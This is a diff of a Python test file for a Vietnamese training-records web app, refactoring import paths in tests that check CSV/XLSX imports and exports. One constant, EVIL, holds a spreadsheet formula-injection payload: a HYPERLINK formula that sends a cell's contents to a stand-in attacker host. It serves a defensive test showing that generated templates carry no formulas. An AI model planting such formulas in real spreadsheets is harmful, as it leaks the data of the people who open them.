@@ -18,7 +18,7 @@ import sqlalchemy as sa
 from werkzeug.datastructures import MultiDict
 
 from tests.conftest import make_app
-from trainer.extensions import db
+from trainer.core.extensions import db
 
 HUGE = "99999999999999999999"
 EVIL = '=HYPERLINK("http://ke-gian.example/"&A4,"bấm")'
@@ -30,7 +30,7 @@ def text(response) -> str:
 
 @pytest.fixture
 def world(app, catalog, province, make_user, make_official):
-    from trainer.learning.models import Provider
+    from trainer.catalog.models import Provider
     top, a, _ = province
     official = make_official(unit_id=a.id, full_name="Lò Thị Mai")
     db.session.commit()
@@ -102,7 +102,7 @@ def test_a_form_with_an_unreadable_id_is_refused_not_a_server_error(world):
 
 
 def test_the_parameter_helpers(app):
-    from trainer import params
+    from trainer.core import params
     with app.test_request_context("/?n=42&big=" + HUGE + "&d=05/03/2026&iso=2026-03-05&f=xlsx"
                                   "&bad=31/02/2026&sup=%C2%B2"):
         assert params.arg_int("n", min=1, max=100) == 42
@@ -322,10 +322,10 @@ def _lie_about_sizes(data: bytes, entry: str, size: int) -> bytes:
 
 
 def test_an_xlsx_over_the_row_limit_is_refused_before_parsing(app, world, monkeypatch):
-    import trainer.imports
+    import trainer.core.tabular
     app.config["IMPORT_MAX_ROWS"] = 5
     parsed = []
-    monkeypatch.setattr(trainer.imports.pd, "read_excel",
+    monkeypatch.setattr(trainer.core.tabular.pd, "read_excel",
                         lambda *a, **k: parsed.append(1) or pd.DataFrame())
     page = text(_upload(world["clients"]["hr_tinh"], _xlsx(6), "nhieu.xlsx"))
     assert ("Tệp “nhieu.xlsx” có 7 dòng (kể cả dòng tiêu đề), quá giới hạn 5 dòng mỗi tệp — "
@@ -416,7 +416,7 @@ def test_an_exported_table_with_a_formula_lookalike_imports_back_unchanged(world
 
 
 def test_the_import_templates_and_class_sheets_have_no_formulas(world):
-    from trainer.imports import template_bytes
+    from trainer.core.tabular import template_bytes
     data = template_bytes(["Họ và tên", "Ghi chú"], {"Họ và tên": EVIL, "Ghi chú": "+84 912"})
     cells = _cells(data)
     assert [c for c in cells if c.data_type == "f"] == []
